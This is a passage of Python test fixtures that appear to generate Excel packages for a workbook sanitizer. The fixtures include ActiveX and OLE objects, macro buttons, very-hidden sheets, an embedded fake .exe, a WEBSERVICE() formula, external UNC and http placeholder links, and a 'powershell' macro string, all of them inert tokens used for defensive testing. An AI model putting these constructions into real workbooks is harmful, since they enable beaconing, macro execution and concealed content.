    add("orphan-parts", bytes_with_orphan(142), "Parts that nothing leads to.", "package")
    add("case-duplicates", one_sheet(ROW).data([("XL/Worksheets/SHEET1.xml", worksheet([[token(143)]]))]), "Two sheets whose names differ by case only.", "package", result="The file is withheld: two programs could read different sheets.")
    add("headers-disagree", disagreeing_headers(one_sheet([[token(144)]])), "Local header and directory name different parts.", "package", result="The file is withheld: two programs could read different parts.")
    add("binary-workbook", binary_workbook(145), "An xlsb workbook: its sheets are binary records.", "binaries", "xlsb", result="It is withheld: binary sheets are not read.")
    add("code-in-extensions", one_sheet(ROW, after=f'<extLst><ext uri="{{A8765BA9-456A-4dab-B4F3-ACF838C121DE}}"><x14:slicerList xmlns:x14="x"><x14:slicer r:id="{token(146)}"/></x14:slicerList></ext></extLst>'), "A slicer in an extension.", "data validation / CF / names")
    add("threaded-comment", threaded(147), "Threaded comments and the persons who wrote them.", "hyperlinks", result="The comment stays as a plain one; mail addresses of persons go.")
    add("scenario-and-views", one_sheet(ROW, after=f'<scenarios><scenario name="{token(148)}" user="{token(148)}"/></scenarios><smartTags><cellSmartTags r="{token(148)}"/></smartTags>'),
        "Scenarios and smart tags.", "add-ins/ribbon")
    add("strings-of-dropped-sheets", dropped_strings(149), "Shared strings that only a macro sheet uses.", "XLM 4.0")
    add("very-hidden-sheet", workbook([("Sheet1", worksheet(ROW)), ("秘密", worksheet([["ここにもある"]]))], states={2: "veryHidden"}), "A sheet that no menu of Excel can show.", "XLM 4.0", result="It becomes a hidden one, which people can show.")
    add("absolute-path", workbook([("Sheet1", worksheet(ROW))], root=' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"',
        before=f'<mc:AlternateContent><mc:Choice Requires="x15"><x15ac:absPath url="\\\\{token(150)}\\home\\" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent><fileSharing userName="{token(150)}"/>'), "The path the workbook was saved under, and who reserved it.", "custom XML")
    return rows


def table_with_formula(n):
    p = one_sheet([["点", "倍"], [1, 2]])
    p.part("xl/tables/table1.xml", f'{HEAD}<table xmlns="{MAIN}" id="1" name="表1" displayName="表1" ref="A1:B2" tableType="xml" connectionId="1"><autoFilter ref="A1:B2"/><tableColumns count="2"><tableColumn id="1" name="点">'
           f'<xmlColumnPr mapId="1" xpath="/{token(n)}" xmlDataType="string"/></tableColumn><tableColumn id="2" name="倍"><calculatedColumnFormula>WEBSERVICE("{token(n)}")</calculatedColumnFormula></tableColumn></tableColumns></table>', VND + "spreadsheetml.table+xml")
    rid = p.rel("xl/worksheets/sheet1.xml", "table", "../tables/table1.xml")
    set_sheet(p, 1, [["点", "倍"], [1, 2]], after=f'<tableParts count="1"><tablePart r:id="{rid}"/></tableParts>')
    return p


def active_x(n):
    p = extra_part("xl/worksheets/sheet1.xml", "control", "xl/activeX/activeX1.xml", f'<ax:ocx xmlns:ax="{MS}/2006/activeX" ax:classid="{{{token(n)}}}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:r="{OFFICE}"/>', "application/vnd.ms-office.activeX+xml",
                   markup=f'<controls><control shapeId="1025" r:id="{{id}}" name="{token(n)}"/></controls>')
    p.part("xl/activeX/activeX1.bin", token(n).encode() * 8, "application/vnd.ms-office.activeX")
    p.rel("xl/activeX/activeX1.xml", f"{MS}/2006/relationships/activeXControlBinary", "activeX1.bin")
    return p


def form_control(n):
    p = vml(NOTE.format(more="") + f'<v:shape id="b" style="x"><v:textbox><div>{token(n)}</div></v:textbox><x:ClientData ObjectType="Button"><x:Anchor>1,2,3,4,5,6,7,8</x:Anchor><x:FmlaMacro>[0]!{token(n)}</x:FmlaMacro></x:ClientData></v:shape>')
    p.part("xl/ctrlProps/ctrlProp1.xml", f'{HEAD}<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" fmlaMacro="{token(n)}"/>', "application/vnd.ms-excel.controlproperties+xml")
    p.rel("xl/worksheets/sheet1.xml", "ctrlProp", "../ctrlProps/ctrlProp1.xml")
    return p


def ole(n, rel="oleObject", name="xl/embeddings/oleObject1.bin", kind=VND + "oleObject", external=False):
    p = one_sheet(ROW)
    if external:
        rid = p.rel("xl/worksheets/sheet1.xml", rel, f"file:///\\\\{token(n)}\\a.doc", True)
    else:
        p.part(name, b"\xd0\xcf\x11\xe0" + token(n).encode() * 8, kind)
        rid = p.rel("xl/worksheets/sheet1.xml", rel, "../" + name.removeprefix("xl/"))
    set_sheet(p, 1, ROW, after=f'<oleObjects><oleObject progId="{token(n)}" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025" r:id="{rid}"/></oleObjects>')
    return p


def header_picture(n):
    p = vml(NOTE.format(more=""))
    p.part("xl/drawings/vmlDrawing2.vml", f'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape id="CH"><v:imagedata src="http://{token(n)}.example/a.png" o:title="{token(n)}"/></v:shape></xml>')
    rid = p.rel("xl/worksheets/sheet1.xml", "vmlDrawing", "../drawings/vmlDrawing2.vml")
    return edit(p, "xl/worksheets/sheet1.xml", "<legacyDrawing ", f'<legacyDrawingHF r:id="{rid}"/><legacyDrawing ')


def bytes_with_orphan(n):
    return one_sheet(ROW).data([("xl/vbaProject.bin", token(n).encode() * 3), ("xl/worksheets/sheet7.xml", worksheet([[token(n)]])), (f"{token(n)}.exe", b"MZ" + token(n).encode())])


def binary_workbook(n):
    p = one_sheet(ROW)
    p.parts.pop("xl/workbook.xml")
    p.types.pop("xl/workbook.xml")
    p.rels[""][0] = ("rId1", f"{OFFICE}/officeDocument", "xl/workbook.bin", False)
    p.rels["xl/workbook.bin"] = p.rels.pop("xl/workbook.xml")
    p.part("xl/workbook.bin", b"\x83\x01\x00" + token(n).encode(), "application/vnd.ms-excel.sheet.binary.macroEnabled.main")
    return p


def threaded(n):
    p = vml(NOTE.format(more=""))
    p.part("xl/threadedComments/threadedComment1.xml", f'{HEAD}<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="A1" personId="{{1}}" id="{{2}}"><text>{token(n)}</text></threadedComment></ThreadedComments>',
           "application/vnd.ms-excel.threadedcomments+xml")
    p.rel("xl/worksheets/sheet1.xml", f"{MS}/2017/10/relationships/threadedComment", "../threadedComments/threadedComment1.xml")
    p.part("xl/persons/person.xml", f'{HEAD}<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="x" id="{{1}}" userId="{token(n)}@example.jp" providerId="AD"/></personList>', "application/vnd.ms-excel.person+xml")
    p.rel("xl/workbook.xml", f"{MS}/2017/10/relationships/person", "persons/person.xml")
    return p


def dropped_strings(n):
    p = macro_sheet(n=n)
    p.parts["xl/macrosheets/sheet9.xml"] = p.parts["xl/macrosheets/sheet9.xml"].replace(b'<c r="A2" t="inlineStr">', b'<c r="B2" t="s"><v>1</v></c><c r="A2" t="inlineStr">')
    p.part("xl/sharedStrings.xml", f'{HEAD}<sst xmlns="{MAIN}" count="2" uniqueCount="2"><si><t>残る文字列</t></si><si><t>{token(n)} powershell</t></si></sst>', VND + "spreadsheetml.sharedStrings+xml")
    p.rel("xl/workbook.xml", "sharedStrings", "sharedStrings.xml")
    set_sheet(p, 1, [[(0,), 5]])
    return p
